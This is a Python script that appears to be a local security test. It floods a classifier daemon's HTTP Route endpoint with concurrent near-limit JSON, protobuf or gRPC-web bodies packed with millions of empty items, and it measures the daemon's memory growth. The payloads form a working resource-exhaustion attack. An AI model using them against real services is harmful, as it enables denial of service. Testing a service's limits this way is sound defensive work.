#!/usr/bin/env python3
"""amp10a: decode amplification on --http-listen. Sends N concurrent bodies
just under the body limit that decode into millions of tiny objects
(RouteRequest.messages = [{},{},...] or include_servers = ["",""...]) and
prints the daemon's VmRSS/VmHWM before/after, and the status codes.
usage: amp.py ENVFILE TOKEN KIND(json-msgs|json-strs|proto-msgs|rest-msgs) CONC ROUNDS"""
import sys, os, threading, time, http.client, collections
env = dict(l.strip().split('=', 1) for l in open(sys.argv[1]) if '=' in l)
tok, kind, conc, rounds = sys.argv[2], sys.argv[3], int(sys.argv[4]), int(sys.argv[5])
host, port = env['HTTP'].split(':')
pid = env['PID']
LIMIT = 4 * 1024 * 1024 - 64
def rss():
    d = {}
    for l in open(f'/proc/{pid}/status'):
        if l.startswith(('VmRSS', 'VmHWM')):
            k, v = l.split(':'); d[k] = int(v.split()[0]) // 1024
    return d
if kind in ('json-msgs', 'rest-msgs'):
    n = (LIMIT - 30) // 3
    body = b'{"query":"x","messages":[' + b','.join([b'{}'] * n) + b']}'
    ctype = 'application/json'
elif kind == 'json-strs':
    n = (LIMIT - 40) // 3
    body = b'{"query":"x","includeServers":[' + b','.join([b'""'] * n) + b']}'
    ctype = 'application/json'
elif kind == 'proto-msgs':
    n = (LIMIT - 10) // 2
    body = b'\x0a\x01x' + b'\x12\x00' * n
    ctype = 'application/proto'
elif kind == 'grpcweb-msgs':
    n = (LIMIT - 16) // 2
    msg = b'\x0a\x01x' + b'\x12\x00' * n
    body = b'\x00' + len(msg).to_bytes(4, 'big') + msg
    ctype = 'application/grpc-web+proto'
path = '/classifier.v1.ClassifierService/Route'
codes = collections.Counter()
def one():
    for _ in range(rounds):
        try:
            c = http.client.HTTPConnection(host, int(port), timeout=120)
            c.request('POST', path, body=body, headers={'Content-Type': ctype, 'Authorization': 'Bearer ' + tok})
            r = c.getresponse(); data = r.read()
            codes[(r.status, data[:100])] += 1
            c.close()
        except Exception as e:
            codes[repr(e)[:80]] += 1
print('body', len(body), 'items', n, 'before', rss(), flush=True)
peak = [0]
stop = False
def mon():
    while not stop:
        peak[0] = max(peak[0], rss()['VmRSS']); time.sleep(0.05)
m = threading.Thread(target=mon); m.start()
t0 = time.time()
ts = [threading.Thread(target=one) for _ in range(conc)]
[t.start() for t in ts]; [t.join() for t in ts]
stop = True; m.join()
print('elapsed %.1fs' % (time.time() - t0), 'peak VmRSS MB', peak[0], 'after', rss())
for k, v in codes.items(): print(v, k)
